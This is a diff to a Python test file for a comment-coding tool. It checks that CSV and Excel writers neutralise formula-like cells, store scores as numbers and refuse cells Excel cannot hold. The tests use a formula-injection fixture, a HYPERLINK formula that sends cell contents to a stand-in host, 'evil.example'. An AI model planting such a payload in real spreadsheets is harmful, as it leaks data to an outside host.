@@ -15,6 +15,7 @@ from coder.codebook_io import parse_codebook
 from coder.errors import OutputError
 from coder.fileio import atomic_open, atomic_path, atomic_write_text
 from coder.results import CommentResult, Evidence, Suggestion
+from coder.table_out import XLSX_CELL_CHARS, open_rows
 from coder.writers import JsonlWriter, LongWriter, WideWriter, added_columns, neutralise
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -78,8 +79,8 @@ def test_neutralise(value: object, expected: str) -> None:
 
 def test_wide_writer_neutralises_every_cell(tmp_path: Path, tiny: Codebook) -> None:
     path = tmp_path / "wide.csv"
-    with atomic_open(path, newline="") as handle:
-        writer = WideWriter(handle, ["id", "comment", "@note"], tiny)
+    with open_rows(path) as rows:
+        writer = WideWriter(rows, ["id", "comment", "@note"], tiny)
         writer.write("=1", {"id": "=1", "comment": FORMULA, "@note": "+x"}, result_for(FORMULA))
         writer.write("2", {"id": "2", "comment": "fine"}, CommentResult(text="fine"))
     assert rows_of(path) == [
@@ -94,8 +95,8 @@ def test_wide_writer_neutralises_every_cell(tmp_path: Path, tiny: Codebook) -> N
 
 def test_wide_writer_renames_clashing_columns(tmp_path: Path, tiny: Codebook) -> None:
     path = tmp_path / "wide.csv"
-    with atomic_open(path, newline="") as handle:
-        writer = WideWriter(handle, ["time", "codes", "cost_score"], tiny)
+    with open_rows(path) as rows:
+        writer = WideWriter(rows, ["time", "codes", "cost_score"], tiny)
         writer.write("1", {"time": "9am", "codes": "X1", "cost_score": "5"}, result_for("t"))
     assert rows_of(path) == [
         [
@@ -108,8 +109,8 @@ def test_wide_writer_renames_clashing_columns(tmp_path: Path, tiny: Codebook) ->
 
 def test_long_writer_neutralises_every_cell(tmp_path: Path, tiny: Codebook) -> None:
     path = tmp_path / "long.csv"
-    with atomic_open(path, newline="") as handle:
-        writer = LongWriter(handle, ["id", "comment"], tiny)
+    with open_rows(path) as rows:
+        writer = LongWriter(rows, ["id", "comment"], tiny)
         writer.write("=1", {"id": "=1", "comment": FORMULA}, result_for(FORMULA))
         writer.write("2", {"id": "2", "comment": "nothing"}, CommentResult(text="nothing"))
     assert rows_of(path) == [
@@ -117,6 +118,59 @@ def test_long_writer_neutralises_every_cell(tmp_path: Path, tiny: Codebook) -> N
         ["'=1", "time", "Time", "0.9123", "rule", "'=HYPERLINK | -no time", "0", "10"],
         ["'=1", "cost", "Cost", "0.6000", "model", "", "", ""],
     ]
+
+
+def workbook_cells(path: Path) -> list[list[tuple[object, str]]]:
+    """Each cell of the first sheet as (value, openpyxl's data type: s text, n number, f
+    formula, e error)."""
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(path).worksheets[0]
+    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
+
+
+def test_a_workbook_keeps_every_comment_as_text_and_scores_as_numbers(
+    tmp_path: Path, tiny: Codebook
+) -> None:
+    path = tmp_path / "wide.xlsx"
+    with open_rows(path) as rows:
+        writer = WideWriter(rows, ["id", "comment", "note"], tiny)
+        note = "#N/A\x07 bell"  # an error value's name, and a character XML cannot hold
+        writer.write("=1", {"id": "=1", "comment": FORMULA, "note": note}, result_for(FORMULA))
+    header, row = workbook_cells(path)
+    assert [value for value, _ in header][:4] == ["id", "comment", "note", "time"]
+    assert row == [
+        ("=1", "s"),
+        (FORMULA, "s"),  # exactly as written, stored as text: never run as a formula
+        ("#N/A\ufffd bell", "s"),
+        (1, "n"), (1, "n"), (0, "n"),
+        (0.9123, "n"), (0.1, "n"), (0.0, "n"),
+        ("time;cost", "s"),
+    ]  # fmt: skip
+
+
+def test_a_long_workbook_has_numbers_where_coder_made_them(tmp_path: Path, tiny: Codebook) -> None:
+    path = tmp_path / "long.xlsx"
+    with open_rows(path) as rows:
+        LongWriter(rows, ["id", "comment"], tiny).write(
+            "=1", {"id": "=1", "comment": FORMULA}, result_for(FORMULA)
+        )
+    assert workbook_cells(path)[1] == [
+        ("=1", "s"), ("time", "s"), ("Time", "s"), (0.9123, "n"), ("rule", "s"),
+        ("=HYPERLINK | -no time", "s"), (0, "n"), (10, "n"),
+    ]  # fmt: skip
+
+
+def test_a_workbook_refuses_what_excel_cannot_hold_and_leaves_no_file(tmp_path: Path) -> None:
+    path = tmp_path / "big.xlsx"
+    with pytest.raises(OutputError) as caught, open_rows(path) as rows:
+        rows.write(["fine"])
+        rows.write(["x" * (XLSX_CELL_CHARS + 1)])
+    assert str(caught.value) == (
+        f"{path}: row 2 has a cell of 32,768 characters, more than an Excel cell holds "
+        "(32,767); write CSV instead (a name ending in .csv)"
+    )
+    assert list(tmp_path.iterdir()) == []
 
 
 def test_jsonl_writer_keeps_the_text_as_it_is(tmp_path: Path, tiny: Codebook) -> None:
